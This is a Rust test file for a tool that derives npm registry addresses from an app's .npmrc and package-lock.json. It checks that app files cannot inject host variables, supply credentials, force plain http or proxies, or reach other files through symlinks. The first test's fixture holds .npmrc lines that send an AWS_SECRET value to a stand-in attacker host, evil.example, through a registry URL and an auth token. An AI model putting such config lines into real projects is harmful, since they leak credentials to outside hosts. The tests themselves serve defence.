//! What an app's own files may say, and what they may not.

use super::*;

/// T3: an app's `.npmrc` gets no variable of the host, and nothing in it signs in.
#[test]
fn t3_an_app_cannot_aim_secrets() {
    let mut machine = Machine::new();
    machine.set("AWS_SECRET", "CANARY");
    machine.file("home/.npmrc", "//evil.example/:_authToken=CANARY\n");
    machine.file(
        "app/.npmrc",
        "registry=https://evil.example/${AWS_SECRET}/\n//evil.example/:_authToken=${AWS_SECRET}\n\
         @a:registry=https://CANARY@evil.example\n@b:registry=http://evil.example\n\
         @c:registry=https://evil.example/\nproxy=http://evil.example\ncafile=/app/ca.pem\n",
    );
    assert_eq!(machine.find("npm"), None);
    assert_eq!(machine.find("npm:@a"), None);
    assert_eq!(machine.find("npm:@b"), None);
    let outcome = machine.look(&["npm"]).unwrap();
    let found = outcome.get("npm:@c").unwrap();
    assert_eq!(address(&found), "https://evil.example/");
    assert_eq!((found.trust, &found.credentials, found.ca.len()), (SourceTrust::LockFile, &None, 0));
    assert_eq!(outcome.network.settings.http_proxy, None);
    let said = machine.said("npm");
    assert!(said.iter().any(|text| text.starts_with("app/.npmrc:2: nothing in an app signs in")), "{said:?}");
    assert!(said.iter().any(|text| text.starts_with("app/.npmrc:1: no variable is put")), "{said:?}");
    assert!(machine.said("npm:@b")[1].contains("`https` addresses only"));
    assert!(!format!("{said:?} {:?}", machine.said("npm:@a")).contains("CANARY"));

    // A link would make it somebody else's file.
    let mut machine = Machine::new();
    machine.file(".npmrc", "registry=https://other.example\n");
    machine.file("package-lock.json", &lock("https://other.example/"));
    for name in [".npmrc", "package-lock.json"] {
        std::os::unix::fs::symlink(machine.path(name), machine.path(&format!("app/{name}"))).unwrap();
    }
    assert_eq!(machine.find("npm"), None);
    assert_eq!(machine.said("npm").len(), 2);
}

#[test]
fn lock_files_name_the_registry_of_most_packages() {
    let package = |name: &str, resolved: &str| {
        format!(r#""node_modules/{name}": {{ "resolved": "{resolved}", "integrity": "sha512-x" }}"#)
    };
    let find = |packages: &[String], name: &str| {
        let mut machine = Machine::new();
        let text = format!(r#"{{ "lockfileVersion": 3, "packages": {{ {} }} }}"#, packages.join(","));
        machine.file("app/package-lock.json", &text);
        machine.find(name).map(|(address, _)| address)
    };
    let packages = [
        package("a", "https://many.example/npm/a/-/a-1.0.0.tgz"),
        package("b", "https://few.example/b/-/b-1.0.0.tgz"),
        package("@acme/c", "https://acme.example/x/@acme/c/-/c-1.0.0.tgz#0123"),
        package("@acme/d", "https://acme.example/x/@acme%2fd/-/d-1.0.0.tgz"),
        package("@same/e", "https://many.example/npm/@same/e/-/e-1.0.0.tgz"),
        package("f", "https://many.example/npm/f/-/f-1.0.0.tgz"),
    ];
    assert_eq!(find(&packages, "npm").unwrap(), "https://many.example/npm/");
    assert_eq!(find(&packages, "npm:@acme").unwrap(), "https://acme.example/x/");
    assert_eq!((find(&packages, "npm:@same"), find(&packages, "npm:@none")), (None, None));
    // Two of a kind: always the same one.
    assert_eq!(find(&packages[..2], "npm").unwrap(), "https://few.example/");
    let no_integrity = r#""node_modules/a": { "resolved": "https://a.example/a/-/a-1.0.0.tgz" }"#.to_owned();
    let odd = r#""x": { "resolved": true, "integrity": [1, {"a": null}] }, "y": {}"#.to_owned();
    for packages in [
        no_integrity,
        odd,
        package("a", "http://a.example/a/-/a-1.0.0.tgz"),
        package("a", "https://joe:CANARY@a.example/a/-/a-1.0.0.tgz"),
        package("a", "git+ssh://git@a.example/a.git#0123"),
        package("a", "https://a.example/a-1.0.0.tgz"),
        package("a", "https://a.example/a/-/a-1.0.0.tgz?token=1"),
        package("a", "https:///a/-/a-1.0.0.tgz"),
        package("a", "file:../a"),
    ] {
        assert_eq!(find(std::slice::from_ref(&packages), "npm"), None, "{packages}");
    }
    // Where the whole of it was configured, its parts are not the app's to decide.
    let mut machine = Machine::new();
    machine.file("app/package-lock.json", &format!(r#"{{ "packages": {{ {} }} }}"#, packages.join(",")));
    assert!(machine.find("npm:@acme").is_some());
    machine.set("WAPACK_SOURCE_NPM", "https://mirror.example");
    assert_eq!(machine.find("npm:@acme"), None);
    // I5: what is no lock file is said, and is not the end.
    for text in ["", "[", "{\"packages\": 1}", &format!("{{\"packages\": {}", "[".repeat(100_000))] {
        let mut machine = Machine::new();
        machine.file("app/package-lock.json", text);
        assert_eq!(machine.find("npm"), None);
        assert!(machine.said("npm")[0].contains("app/package-lock.json names no source"), "{text:.20}");
    }
}

#[test]
fn a_lock_file_is_named_once_as_where_an_address_comes_from() {
    let mut machine = Machine::new();
    machine.file("app/package-lock.json", &lock("https://lock.example/"));
    let outcome = machine.look(&["npm"]).unwrap();
    assert_eq!(outcome.get("npm").unwrap().trust, SourceTrust::LockFile);
    outcome.get("npm");
    let said = outcome.network.finder.take_remarks();
    assert!(
        matches!(&said[..], [Remark::Note(text)] if text.contains("app/package-lock.json says so")),
        "{said:?}"
    );
}
